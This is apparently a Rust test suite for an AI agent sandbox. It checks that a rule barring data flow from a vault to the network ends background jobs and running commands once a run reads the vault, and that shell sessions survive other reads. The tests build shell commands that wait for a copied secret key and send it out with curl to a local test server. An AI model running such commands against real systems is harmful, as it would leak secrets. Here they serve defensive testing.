//! A run with a shell session that has a network, and then reads what a flow rule keeps from the network: no command, and
//! no job that one has left behind, sends it.

use std::{fs, path::PathBuf};

use portcullis_testing::CallOutcome;
use portcullis_types::ToolErrorKind;
use serde_json::json;

use super::{Server, Shell, shell};
use crate::{shell::backends::until, support::is_argument};

const VAULT_TO_NETWORK: &str = "flow[vault -> network]";

/// A shell with a secret in the vault.
async fn with_vault(server: &Server) -> Shell {
    let shell = shell(server).await;
    fs::write(shell.world.workspace().join("vault/key"), "secret").expect("written");
    shell
}

fn shared(shell: &Shell, name: &str) -> PathBuf {
    shell.world.workspace().join("shared").join(name)
}

/// A command that waits for this shared file and then sends it.
fn sends(server: &Server, file: &str) -> String {
    format!(
        "until [[ -e /shared/{file} ]]; do sleep 0.01; done; \
         curl --silent --show-error --data-binary @/shared/{file} {}",
        server.url(file)
    )
}

/// A job that does so, known on the whole machine by this argument.
fn job(server: &Server, file: &str, argument: &str) -> String {
    format!("bash -c {:?} {argument} >/dev/null 2>&1 & true", sends(server, file))
}

#[tokio::test]
async fn a_job_loses_its_network_before_its_run_reads_the_vault() {
    let server = Server::start();
    let shell = with_vault(&server).await;
    // The control: a job sends what the run may send.
    shell.text(&job(&server, "public", &format!("control-{}", server.port()))).await;
    shell.world.put("public", "anything");
    until(|| server.requests() == 1).await;

    let argument = format!("job-{}", server.port());
    shell.text(&job(&server, "key", &argument)).await;
    until(|| is_argument(&argument)).await;
    let copy = json!({"source_path": "/vault/key", "destination_path": "/shared/key"});
    assert!(CallOutcome::of(&shell.registry, "vault_copyto", copy).await.0.outcome.is_ok());
    // It is over, whether it has sent the copy or was ended.
    until(|| !is_argument(&argument)).await;
    assert_eq!(server.requests(), 1);
    shell.run("true").await.refused(ToolErrorKind::Denied, "flow_denied");
    assert_eq!(shell.last_row().rule.as_deref(), Some(VAULT_TO_NETWORK));
}

#[tokio::test]
async fn a_command_under_way_is_ended_before_its_run_reads_the_vault() {
    let server = Server::start();
    let shell = with_vault(&server).await;
    let command = format!("touch begun; {}", sends(&server, "key"));
    let reads = async {
        until(|| shared(&shell, "begun").exists()).await;
        let read = CallOutcome::of(&shell.registry, "file_read", json!({"path": "/vault/key"})).await.text();
        let write = json!({"path": "/shared/key", "content": read});
        assert!(CallOutcome::of(&shell.registry, "file_write", write).await.0.outcome.is_ok());
    };
    let (ended, ()) = tokio::join!(shell.run(&command), reads);
    ended.refused(ToolErrorKind::Denied, "flow_denied");
    assert_eq!(server.requests(), 0);
    let rows = shell.world.rows();
    let ends = rows.iter().filter(|row| row.code.as_deref() == Some("flow_denied"));
    assert_eq!(ends.count(), 1, "{rows:#?}");
}

#[tokio::test]
async fn a_session_outlives_reads_of_other_mounts() {
    let server = Server::start();
    let shell = with_vault(&server).await;
    shell.text("kept=here").await;
    shell.world.put("note", "text");
    assert!(
        CallOutcome::of(&shell.registry, "file_read", json!({"path": "/shared/note"}))
            .await
            .0
            .outcome
            .is_ok()
    );
    assert!(
        CallOutcome::of(&shell.registry, "file_search", json!({"query": "text"})).await.0.outcome.is_ok()
    );
    assert_eq!(shell.text("echo $kept").await, "here\n");
}

#[tokio::test]
async fn a_session_outlives_what_another_run_reads() {
    let server = Server::start();
    let shell = with_vault(&server).await;
    shell.text("kept=here").await;
    let call = portcullis_tools::new_call("file_read", json!({"path": "/vault/key"}).to_string());
    let other = shell.registry.execute_with_policy(call, &super::super::another_agent()).await;
    assert!(other.outcome.is_ok(), "{other:?}");
    assert_eq!(shell.text("echo $kept").await, "here\n");
}
